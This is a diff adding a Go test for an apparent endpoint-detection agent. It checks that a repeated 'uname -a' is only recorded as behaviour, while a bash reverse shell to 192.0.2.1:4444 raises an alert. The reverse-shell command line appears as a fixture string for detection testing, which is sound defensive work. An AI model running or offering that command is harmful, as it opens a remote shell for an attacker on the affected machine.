@@ -1,0 +1,52 @@
+package sensor_test
+
+import (
+	"context"
+	"testing"
+	"time"
+
+	"github.com/bulwarkhq/bulwark/agent/detect"
+	"github.com/bulwarkhq/bulwark/agent/sensor"
+	"github.com/bulwarkhq/bulwark/agent/sensor/sensortest"
+	"github.com/bulwarkhq/bulwark/content/rules"
+	"github.com/bulwarkhq/bulwark/event"
+)
+
+// What an informational rule finds is recorded and raises no alert; what is
+// graver raises one.
+func TestBehaviorsAreNoAlerts(t *testing.T) {
+	engine := detect.New(detect.Options{})
+	if rep := engine.Load(detect.Source{Name: "builtin", FS: rules.FS(), Builtin: true}); len(rep.Problems) > 0 {
+		t.Fatal(rep.Problems)
+	}
+	var r, behaviors results
+	run := func(pid int64, image, line string) event.Event {
+		p := event.Process{PID: pid, ParentPID: 4_000_001, StartTime: time.Now(), FolderPath: image, CommandLine: line}
+		return event.Event{Time: time.Now(), Class: event.ClassProcess, Action: event.ProcessCreated, Process: p, Initiating: event.Process{PID: 4_000_001, FolderPath: "/usr/bin/bash", CommandLine: "bash"}}
+	}
+	p := &sensor.Pipeline{
+		Table: sensortest.Table(t), Detect: engine, OnEvent: r.event, OnAlert: r.alert, OnBehavior: behaviors.event, Log: sensortest.Log(t),
+		Sensors: []sensor.Sensor{&fake{"one", both(), func(ctx context.Context, _ []event.Category, s sensor.Sink) error {
+			s.Ready()
+			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), 0)
+			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), 0)
+			s.Emit(run(4_000_003, "/usr/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), 0)
+			<-ctx.Done()
+			return nil
+		}}},
+	}
+	stop := start(t, p)
+	r.wait(t, "the last event and its alert", func() bool { return len(r.events) == 3 && len(r.alerts) > 0 })
+	stop()
+	if len(behaviors.events) != 1 || behaviors.events[0].Action != "SystemInformation" || behaviors.events[0].Class != event.ClassBehavior || behaviors.events[0].ReportID != 1 {
+		t.Errorf("behaviours: %+v", behaviors.events)
+	}
+	for _, a := range r.alerts {
+		if a.Severity == event.SeverityInformational || a.Process.PID != 4_000_003 {
+			t.Errorf("alert %s about %+v", a.Title, a.Process)
+		}
+	}
+	if st := engine.BehaviorStats(); st != (detect.BehaviorStats{Recorded: 1, Repeated: 1}) {
+		t.Errorf("%+v", st)
+	}
+}
